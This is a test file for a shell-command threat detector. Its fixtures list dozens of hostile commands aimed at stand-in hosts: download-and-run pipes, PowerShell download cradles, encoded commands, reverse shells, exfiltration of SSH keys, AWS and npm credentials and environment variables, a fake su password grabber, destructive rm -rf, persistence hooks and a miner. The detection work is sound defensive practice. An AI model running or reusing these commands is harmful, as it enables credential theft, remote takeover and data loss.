import assert from 'node:assert/strict';
import fc from 'fast-check';
import { shellSignals } from '../../../../server/src/artifacts/analysis/shell/signals.js';

const kindsIn = (text: string): readonly string[] => [...new Set(shellSignals(text).map(({ kind }) => kind))].sort();

describe('shellSignals', () => {
  const encoded = Buffer.from('iwr http://192.0.2.1/a.exe -OutFile a.exe; Start-Process a.exe', 'utf16le').toString(
    'base64',
  );

  const harmful: readonly (readonly [string, string])[] = [
    ['curl -fsSL https://h.example/i.sh | sh', 'download-and-run'],
    ['wget -qO- https://h.example/i | sudo bash -s -- -y', 'download-and-run'],
    ['curl https://h.example/i.js | node -', 'download-and-run'],
    ['sh -c "$(curl -fsSL https://h.example/i)"', 'download-and-run'],
    ['eval "$(wget -qO- https://h.example/i)"', 'download-and-run'],
    ['bash <(curl -s https://h.example/i)', 'download-and-run'],
    ['curl -o /tmp/t https://h.example/t && chmod +x /tmp/t && /tmp/t', 'download-and-run'],
    ['curl -sO https://h.example/t.sh; sh t.sh', 'download-and-run'],
    ['curl -fsSL https://h.example/t > t && bash ./t --yes', 'download-and-run'],
    ['wget https://h.example/t; chmod 755 t', 'download-and-run'],
    ['curl https://h.example/t > t; node t', 'download-and-run'],
    ['certutil.exe -urlcache -f https://h.example/a.dll a.dll & regsvr32 -s a.dll', 'download-and-run'],
    [`bash -c 'bash -c "curl https://h.example | sh"'`, 'download-and-run'],
    [`powershell -c "IEX (New-Object Net.WebClient).DownloadString('https://h.example/a')"`, 'download-and-run'],
    ['powershell "iwr https://h.example/a | iex"', 'download-and-run'],
    ['$d = "$env:TEMP\\a.bin"\n$wc.DownloadFile("$Base/a", $d)\nStart-Process -FilePath $d', 'download-and-run'],
    ['$d = "C:\\a.bin"\nInvoke-WebRequest -Uri $u -OutFile $d\n& $d /quiet', 'download-and-run'],
    [`powershell -nop -w hidden -enc ${encoded}`, 'encoded-command'],
    [`powershell -EncodedCommand ${encoded}`, 'download-and-run'],
    ['echo ZWNobyBoaQ== | base64 -d | sh', 'encoded-command'],
    ['certutil -f -decode setup.cmd "%TEMP%\\svc.exe"\nstart "" /b "%TEMP%\\svc.exe"', 'encoded-command'],
    ['tail -n +9 "$0" | base64 -d > /tmp/.x; chmod +x /tmp/.x', 'encoded-command'],
    ['openssl enc -d -aes-256-cbc -d -in a.bin -out /tmp/b.sh && sh /tmp/b.sh', 'encoded-command'],
    ['copy /y a.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe" >nul', 'autostart'],
    ['read -rs word; echo "$word" | nc h.example 99', 'command-sends-data'],
    [
      `printf '%s\\n' '#!/bin/sh' 'stty -echo' 'read -r p' 'stty echo' 'curl -d "$p" https://h.example' > ~/bin/su`,
      'command-sends-data',
    ],
    ["bash -c 'bash -i >& /dev/tcp/h.example/9001 0>&1'", 'reverse-shell'],
    ['exec 5<>/dev/tcp/h.example/9001', 'reverse-shell'],
    ['nc -e /bin/sh h.example 4444', 'reverse-shell'],
    ['socat tcp:h.example:1 exec:/bin/sh', 'reverse-shell'],
    [`python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)'`, 'reverse-shell'],
    ['curl -d "$(env)" https://h.example', 'command-sends-data'],
    ['env | curl -X POST --data-binary @- https://h.example', 'command-sends-data'],
    ['curl -F f=@$HOME/.npmrc https://h.example', 'command-sends-data'],
    ['nslookup $(hostname).h.example', 'command-sends-data'],
    ['curl https://h.example/?u=$(whoami)', 'command-sends-data'],
    ['cat ~/.ssh/id_rsa | nc h.example 80', 'command-sends-data'],
    ['tar cz ~/.aws | curl -T - https://h.example', 'command-sends-data'],
    ['rm -rf ~', 'destructive-command'],
    ['rm -rf --no-preserve-root /', 'destructive-command'],
    ['rd /s /q %USERPROFILE%', 'destructive-command'],
    ['find ~ -type f -delete', 'destructive-command'],
    ['(crontab -l; echo x) | crontab -', 'autostart'],
    ['echo "x" >> ~/.bashrc', 'autostart'],
    ['schtasks /create /tn x /tr y', 'autostart'],
    ['systemctl --user enable x', 'autostart'],
    ['npm install -g openclaw@latest', 'installs-globally'],
    ['./m -o stratum+tcp://pool.example:3333', 'miner'],
    ['curl http://192.0.2.1/a -o a', 'unvouched-download'],
  ];
  for (const [text, kind] of harmful) {
    it(`finds ${kind} in ${text.slice(0, 70)}`, () => assert.ok(kindsIn(text).includes(kind), kindsIn(text).join()));
  }

  const honest: readonly string[] = [
    'node install.js',
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild --release',
    'npm run build && husky install',
    'rm -rf dist node_modules && tsc -p .',
    'rimraf lib; mkdir -p lib',
    'curl -fsSL https://h.example/data.json -o data.json',
    'curl https://h.example/x.tgz | tar xz',
    'curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos -o out.json',
    'curl https://h.example | python3 -m json.tool',
    `node -e "try{require('./postinstall')}catch(e){}"`,
    'test -f .env && echo found || exit 0',
    'crontab -l',
    'cat package.json | grep version',
    'git config core.hooksPath .githooks',
    'chmod +x bin/cli.js',
    'npm install --no-save typescript',
    'curl http://localhost:3000/health',
    'patch-package; ngcc --properties es2015',
    'cp -r src/assets ~/tmp',
    'certutil -decode cert.b64 cert.crt && certutil -addstore Root cert.crt',
    'echo "$KEYSTORE" | base64 -d > release.jks && chmod 600 release.jks',
    'copy /y a.ico "%APPDATA%\\tool\\a.ico"',
    'read -rsp "Token: " token; echo "//registry.npm.example/:_authToken=$token" > .npmrc',
    `printf '%s\\n' '#!/bin/sh' 'exec node "$(dirname "$0")/cli.js" "$@"' > bin/tool`,
  ];
  for (const text of honest) {
    it(`finds nothing in ${text}`, () => assert.deepEqual(kindsIn(text), []));
  }

  it('decodes at most so many commands inside commands', () => {
    let text = 'curl https://h.example | sh';
    for (let depth = 0; depth < 100; depth += 1) {
      if (text.length > 200_000) break;
      text = `powershell -enc ${Buffer.from(text, 'utf16le').toString('base64')}`;
    }
    assert.ok(kindsIn(text).includes('encoded-command'));
  });

  it('reads any text', () => {
    const words = [
      'curl ',
      'sh ',
      '| ',
      '$(',
      ')',
      '"',
      "'",
      '-c ',
      '-o ',
      'x ',
      '; ',
      'http://h ',
      '> ',
      'base64 -d ',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...words), { maxLength: 40 }), (parts) => {
        const text = parts.join('');
        for (const { offset } of shellSignals(text)) assert.ok(offset >= 0 && offset <= text.length);
      }),
    );
  });
});
